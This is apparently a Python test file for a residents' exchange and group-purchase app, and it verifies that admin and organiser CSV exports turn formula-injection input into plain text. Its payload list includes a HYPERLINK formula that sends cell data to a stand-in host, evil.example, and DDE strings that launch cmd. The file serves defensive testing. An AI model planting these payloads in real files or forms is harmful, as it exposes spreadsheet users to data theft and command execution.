"""Formula injection through the CSV exports: a resident types text a spreadsheet would run
(=HYPERLINK, +cmd, -2+3, @SUM, a leading tab) into a name, a description, a purchase; every
export the association or an organiser downloads shows it as text, while amounts, even
negative ones, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from app_fixtures import login, text_of

from kiosk import clock
from kiosk.ledger import exchanges
from kiosk.projects import projects, purchase_orders
from kiosk.projects import purchases as group_purchases
from kiosk.projects.purchases import ProductDraft
from kiosk.residents import residents
from kiosk.vouchers import vouchers

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def open_purchase(db, config, organiser, *, title: str, supplier: str, product: str):
    project = projects.propose(
        db, resident_id=organiser.id, title=title, description="", kind="group_purchase"
    )
    now = clock.now()
    return group_purchases.open_purchase(
        db,
        config,
        project.id,
        by=organiser.id,
        supplier=supplier,
        deadline=now + timedelta(days=2),
        pickup_place="Local vélos",
        pickup_at=now + timedelta(days=5),
        fee_kind="per_participant",
        fee_amount=200,
        products=[ProductDraft(product, "sac", 599, True)],
    )


def cells_of(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"a spreadsheet would run {cell!r}")
            if cell.startswith("-"):
                float(cell.replace(",", "."))  # only a number may start with a minus


def test_formula_text_in_every_admin_export_reaches_the_spreadsheet_as_text(
    client, db, config, building
):
    mallory = residents.register(db, apartment="D-001", name=PAYLOADS[3], pin="1357")
    for payload in PAYLOADS:
        exchanges.record_exchange(
            db,
            config,
            payer_id=building.paul.id,
            payee_id=mallory.id,
            description=payload,
            category="sewing",
            minutes=15,
        )
    vouchers.issue_vouchers(db, config, resident_id=mallory.id, counts={1000: 1})
    login(client, building.admin)
    month = clock.now().astimezone(config.timezone).strftime("%Y-%m")

    people = cells_of(client.get("/admin/exports/residents.csv").get_data(as_text=True))
    assert_no_formula(people)
    assert ["D-001", "'" + PAYLOADS[3]] in [row[:2] for row in people]
    [paul] = [row for row in people if row[1] == "Paul Durand"]
    assert paul[4] == "-10,00"  # four quarter hours paid: a negative number, left a number

    moves = cells_of(
        client.get(f"/admin/exports/transfers.csv?start={month}&end={month}").get_data(as_text=True)
    )
    assert_no_formula(moves)
    exchanged = [row for row in moves[1:] if row[2] == "exchange"]
    assert [row[10] for row in exchanged] == ["'" + payload for payload in PAYLOADS]
    assert {row[6] for row in exchanged} == {"'" + PAYLOADS[3]}

    issued = cells_of(
        client.get(f"/admin/exports/vouchers.csv?start={month}&end={month}").get_data(as_text=True)
    )
    assert_no_formula(issued)
    assert "10,00" in issued[1]


def test_formula_text_in_a_group_purchase_reaches_the_organisers_csv_as_text(
    client, db, config, building
):
    mallory = residents.register(db, apartment="D-001", name=PAYLOADS[0], pin="1357")
    purchase = open_purchase(
        db, config, building.admin, title=PAYLOADS[2], supplier=PAYLOADS[1], product=PAYLOADS[3]
    )
    [bag] = purchase.products
    purchase_orders.place_order(db, config, purchase.project_id, mallory.id, {bag.id: 1000})
    login(client, building.admin)
    response = client.get(f"/purchases/{purchase.project_id}/export.csv")
    assert response.mimetype == "text/csv", text_of(response)
    rows = cells_of(response.get_data(as_text=True))
    assert_no_formula(rows)
    [household] = [row for row in rows if row[2] == "D-001"]
    assert household[:4] == ["'" + PAYLOADS[2], "'" + PAYLOADS[1], "D-001", "'" + PAYLOADS[0]]
    assert PAYLOADS[3] in household[4] and household[5] == "5,99"
